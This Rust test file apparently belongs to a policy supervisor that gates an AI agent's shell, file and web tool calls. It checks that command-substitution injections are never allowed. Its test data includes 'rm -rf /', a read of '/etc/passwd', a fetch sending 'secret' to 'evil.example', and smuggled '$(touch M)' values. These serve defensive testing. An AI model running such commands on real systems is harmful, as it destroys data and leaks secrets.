        Just("./run.sh"),
        Just("env"),
        Just("find"),
        Just("sed"),
        Just("tar"),
    ];
    let arg = prop_oneof![
        Just("-la"),
        Just("-n"),
        Just("5"),
        Just("src"),
        Just("README.md"),
        Just("'a b'"),
        Just("--flag=v"),
        Just("x.txt"),
        Just("-c"),
        Just("status"),
        Just("build"),
        Just("\"q\""),
        Just("-exec"),
        Just("-o"),
        Just("a=b"),
        Just("'s/a/b/'"),
    ];
    let simple = (program, prop::collection::vec(arg, 0..4))
        .prop_map(|(p, args)| std::iter::once(p).chain(args).collect::<Vec<_>>().join(" "));
    let sep = prop_oneof![Just(" | "), Just(" && "), Just("; "), Just(" || ")];
    (simple.clone(), prop::collection::vec((sep, simple), 0..3)).prop_map(|(first, rest)| {
        let mut out = first;
        for (s, c) in rest {
            out.push_str(s);
            out.push_str(&c);
        }
        out
    })
}

/// Commands with a substitution nested at any depth in any construct.
fn with_substitution() -> impl Strategy<Value = String> {
    let leaf = prop_oneof![
        Just("$(touch M)".to_string()),
        Just("`touch M`".to_string()),
        Just("$(ls)".to_string()),
        Just("<(touch M)".to_string()),
    ];
    let word = leaf.prop_recursive(4, 24, 1, |inner| {
        inner.prop_flat_map(|i| {
            prop_oneof![
                Just(format!("${{X:-{i}}}")),
                Just(format!("${{X#{i}}}")),
                Just(format!("${{X%%{i}}}")),
                Just(format!("${{X/a/{i}}}")),
                Just(format!("${{X^{i}}}")),
                Just(format!("${{X,,{i}}}")),
                Just(format!("${{X:+{i}}}")),
                Just(format!("\"a{i}b\"")),
                Just(format!("$(( {i} ))")),
                Just(format!("${{a[{i}]}}")),
                Just(format!("x{i}")),
            ]
        })
    });
    let stmt = word.prop_flat_map(|w| {
        prop_oneof![
            Just(format!("ls {w}")),
            Just(format!("echo {w}")),
            Just(format!("touch {w}")),
            Just(format!("cat <<EOF\n{w}\nEOF")),
            Just(format!("[[ {w} == x ]] && ls")),
            Just(format!("for i in {w}; do ls; done")),
            Just(format!("while ls {w}; do ls; done")),
            Just(format!("case {w} in x) ls;; esac")),
            Just(format!("f() {{ ls {w}; }}")),
            Just(format!("if ls {w}; then ls; fi")),
            Just(format!("{{ ls {w}; }}")),
            Just(format!("( ls {w} )")),
            Just(format!("ls {w} | wc -l")),
            Just(format!("x={w} ls")),
            Just(format!("a[{w}]=1; ls")),
            Just(format!("ls > /dev/null {w}")),
            Just(format!("echo ok && echo {w}")),
        ]
    });
    (stmt, any::<bool>()).prop_map(|(s, prefix)| if prefix { format!("ls; {s}") } else { s })
}

proptest! {
    /// A substitution anywhere in a command is never allowed by prefix rules, even
    /// ones that allow the command it runs.
    #[test]
    fn a_substitution_anywhere_is_never_allowed(cmd in with_substitution()) {
        let touch = rule("run_command", Allow, vec![cond("command", Operator::StartsWith, "touch ")]);
        let d = run(&prefixes(vec![touch]), &cmd);
        prop_assert_ne!(d.action, Allow, "{:?}: {}", cmd, d.reason);
    }

    /// The rules a denial suggests, added as it says, allow that very command.
    #[test]
    fn the_suggested_rules_allow_the_command(cmd in benign_command()) {
        let base = vec![rule("run_command", Allow, vec![cond("command", Operator::StartsWith, "git ")])];
        let p = policy(Mode::Auto, base.clone());
        let d = run(&p, &cmd);
        prop_assume!(d.action == Ask);
        let Some(hint) = d.suggestion.clone() else {
            return Err(TestCaseError::fail(format!("{cmd:?}: no hint ({})", d.reason)));
        };
        let after = run(&with_suggestion(&base, &hint), &cmd);
        prop_assert_eq!(after.action, Allow, "{:?}\n{}\n{}", cmd, hint, after.reason);
    }
}

// ---- explain ----

fn explain(p: &Policy, tool: &str, args: Value) -> toolvisor_protocol::message::ServerMessage {
    super::explain::explain("e".into(), p, &registry(), tool, &args)
}

#[test]
fn explain_shows_each_part() {
    use toolvisor_protocol::message::ServerMessage;
    let p = prefixes(vec![]);
    let m = explain(
        &p,
        "run_command",
        json!({"command": "git status; rm -rf / && ls $(id)"}),
    );
    let ServerMessage::Explanation {
        decision,
        risk,
        rule,
        parts: Some(parts),
        error: None,
        ..
    } = m
    else {
        panic!("{m:?}");
    };
    assert_eq!((decision.as_str(), risk.as_str()), ("ask", "high"));
    assert_eq!(rule, None, "no rule allows rm");
    let summary: Vec<(String, String, Option<u64>)> = parts
        .iter()
        .map(|p| (p.words.join(" "), p.decision.clone(), p.rule))
        .collect();
    assert_eq!(
        summary,
        [
            ("git status".into(), "allow".into(), Some(0)),
            ("rm -rf /".into(), "ask".into(), None),
            ("ls $(id)".into(), "ask".into(), Some(1)),
            ("id".into(), "ask".into(), None),
        ]
    );
    assert_eq!(parts[2].hazards, ["command substitution"]);
    assert_eq!(parts[0].text, "git status");
    let m = explain(&p, "run_command", json!({"command": "ls -la"}));
    assert!(
        matches!(&m, ServerMessage::Explanation { decision, rule: Some(1), .. } if decision == "allow"),
        "{m:?}"
    );
    let text = super::explain::render(&m);
    assert!(
        text.contains("decision: allow") && text.contains("policy.rules[1]"),
        "{text}"
    );
}

#[test]
fn explain_reports_validation_errors() {
    use toolvisor_protocol::ErrorType;
    use toolvisor_protocol::message::ServerMessage;
    let p = prefixes(vec![]);
    for (tool, args, kind) in [
        ("run_command", json!({}), ErrorType::InvalidParams),
        (
            "run_command",
            json!({"command": 3}),
            ErrorType::InvalidParams,
        ),
        ("no_such_tool", json!({}), ErrorType::ToolNotFound),
    ] {
        let m = explain(&p, tool, args);
        let ServerMessage::Explanation {
            decision,
            error: Some(e),
            parts: None,
            ..
        } = &m
        else {
            panic!("{m:?}");
        };
        assert_eq!(decision, "error");
        assert_eq!(e.kind, kind, "{m:?}");
    }
    let m = explain(&p, "read_file", json!({"path": "a"}));
    assert!(
        matches!(&m, ServerMessage::Explanation { decision, parts: None, .. } if decision == "allow"),
        "{m:?}"
    );
    let m = explain(&p, "read_file", json!({"path": "/etc/passwd"}));
    assert!(
        matches!(&m, ServerMessage::Explanation { decision, .. } if decision == "deny"),
        "{m:?}"
    );
}

/// Token soup: shell syntax in random order around a payload.
fn soup() -> impl Strategy<Value = String> {
    const TOKENS: &[&str] = &[
        " ", " ", " ", ";", "&", "|", "\n", "\\", "'", "\"", "$", "(", ")", "{", "}", "`", "<",
        ">", "#", "=", "x", "[", "]", "!", "*", "\t", "$(", "${", "$'", "$((", "<<", "EOF", "-c",
        "bash", ":", "%", "/", "@", "P", "~", ",", "touch M", "touch M", "X", "a[", "0", "\\n",
        "-exec", "-e", "e", "w M", "+", "&&", "||", "\\'", "<(", ">(", "-v", "declare", "-i",
    ];
    let start = prop_oneof![
        Just("ls "),
        Just("echo "),
        Just("cat "),
        Just("wc "),
        Just("sed ")
    ];
    (
        start,
        prop::collection::vec(prop::sample::select(TOKENS), 1..14),
    )
        .prop_map(|(s, t)| format!("{s}{}", t.concat()))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    /// What the policy allows, bash runs without creating anything: a command built
    /// of random shell syntax around `touch M` is either refused or harmless.
    #[test]
    fn allowed_token_soup_creates_nothing(cmd in soup()) {
        let env = json!({"X": "a[$(touch M)]"});
        let d = decide(&prefixes(vec![]), "run_command", json!({"command": cmd, "env": env}));
        if d.action != Allow {
            return Ok(());
        }
        let dir = tempfile::tempdir().unwrap();
        let _ = std::process::Command::new("bash")
            .args(["--noprofile", "--norc", "-c", &cmd])
            .current_dir(dir.path())
            .env("X", "a[$(touch M)]")
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status();
        let made: Vec<_> = std::fs::read_dir(dir.path()).unwrap().flatten().map(|e| e.file_name()).collect();
        prop_assert!(made.is_empty(), "{:?} was allowed and created {:?}", cmd, made);
    }
}

/// A client cannot crash or stall the supervisor with a command: deep nesting and
/// great length ask, on a thread with a runtime worker's 2 MiB stack.
#[test]
fn deep_and_long_commands_ask_without_exhausting_the_stack() {
    let deep = |open: &str, mid: &str, close: &str| {
        format!("echo {}{mid}{}", open.repeat(20_000), close.repeat(20_000))
    };
    let cases = [
        deep("$(", "ls", ")"),
        deep("$((", "1", "))"),
        deep("(", "ls", ")"),
        deep("${x:-", "y", "}"),
        deep("\"$(", "ls", ")\""),
        deep("if true; then ", "ls", "; fi"),
        format!("echo {}", "word ".repeat(60_000)),
    ];
    let t = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || {
            let p = prefixes(vec![]);
            cases.iter().map(|c| run(&p, c).action).collect::<Vec<_>>()
        })
        .unwrap();
    let actions = t.join().expect("no stack overflow");
    assert!(actions.iter().all(|a| *a == Ask), "{actions:?}");
}

#[test]
fn expose_asks_unless_every_allowing_rule_grants_the_ports() {
    let call =
        |ports: Value| json!({ "command": "npm run dev", "background": true, "expose": ports });
    let mut some = rule("run_command", Action::Allow, vec![]);
    some.expose = Some(crate::config::Expose::Ports(vec![8000]));
    let p = policy(Mode::Auto, vec![some]);
    assert_eq!(
        decide(&p, "run_command", call(json!([8000]))).action,
        Action::Allow
    );
    let d = decide(&p, "run_command", call(json!([8000, 9000])));
    assert_eq!(d.action, Action::Ask, "{d:?}");
    assert!(
        d.reason.contains("port 9000") && d.reason.contains("expose = [9000]"),
        "{}",
        d.reason
    );
    let mut all = rule("run_command", Action::Allow, vec![]);
    all.expose = Some(crate::config::Expose::All(true));
    let p = policy(Mode::Auto, vec![all]);
    assert_eq!(
        decide(&p, "run_command", call(json!([9000]))).action,
        Action::Allow
    );
    // A rule that allows the command but says nothing of expose: the call asks.
    let p = policy(Mode::Yolo, vec![rule("run_command", Action::Allow, vec![])]);
    let d = decide(&p, "run_command", call(json!([8000])));
    assert_eq!(d.action, Action::Ask, "{d:?}");
    // Without expose nothing changes.
    let d = decide(
        &p,
        "run_command",
        json!({ "command": "npm run dev", "background": true }),
    );
    assert_eq!(d.action, Action::Allow, "{d:?}");
}

#[test]
fn web_fetch_of_a_host_off_the_network_list_asks() {
    let p =
        policy(Mode::Auto, vec![]).with_network_allow(&["docs.rs".into(), "*.crates.io".into()]);
    for url in ["https://docs.rs/x", "http://static.crates.io:80/a"] {
        assert_eq!(
            decide(&p, "web_fetch", json!({ "url": url })).action,
            Action::Allow,
            "{url}"
        );
    }
    let d = decide(
        &p,
        "web_fetch",
        json!({"url": "https://evil.example/?q=secret"}),
    );
    assert_eq!(d.action, Action::Ask, "{d:?}");
    assert!(
        d.reason.contains("[network] allow = [\"evil.example\"]"),
        "{}",
        d.reason
    );
    // A rule that allows the call is a person's word for it.
    let p = policy(Mode::Auto, vec![rule("web_fetch", Action::Allow, vec![])]);
    let d = decide(&p, "web_fetch", json!({"url": "https://evil.example/"}));
    assert_eq!(d.action, Action::Allow, "{d:?}");
}

#[test]
fn a_domain_list_asks_for_what_no_rule_or_list_grants() {
    let mut cargo = rule("run_command", Action::Allow, vec![]);
    cargo.network = Some(crate::config::Network::Domains(vec!["*.crates.io".into()]));
    let p = policy(Mode::Auto, vec![cargo]).with_network_allow(&["github.com".into()]);
    let call = |net: Value| json!({"command": "cargo fetch", "network": net});
    let d = decide(
        &p,
        "run_command",
        call(json!(["static.crates.io", "github.com"])),
    );
    assert_eq!(d.action, Action::Allow, "{d:?}");
    assert_eq!(
        d.network,
        super::widen::NetworkGrant::Egress(vec![
            "*.crates.io".into(),
            "github.com".into(),
            "static.crates.io".into()
        ])
    );
    let d = decide(&p, "run_command", call(json!(["pypi.org"])));
    assert_eq!(d.action, Action::Ask, "{d:?}");
    assert!(d.reason.contains("network to pypi.org"), "{}", d.reason);
    let d = decide(&p, "run_command", call(json!(true)));
    assert_eq!(d.action, Action::Ask, "{d:?}");
    assert!(d.reason.contains("network = true"), "{}", d.reason);
}
